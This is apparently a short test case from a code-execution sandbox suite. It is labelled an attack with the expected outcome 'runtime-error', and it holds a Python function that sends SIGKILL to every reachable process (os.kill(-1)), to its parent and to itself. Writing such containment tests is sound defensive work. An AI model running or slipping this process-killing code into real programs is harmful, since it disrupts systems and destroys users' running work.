# attack: killing every process that can be reached
# held by: that is the program itself
# outcome: runtime-error
import os, signal


def f(n):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
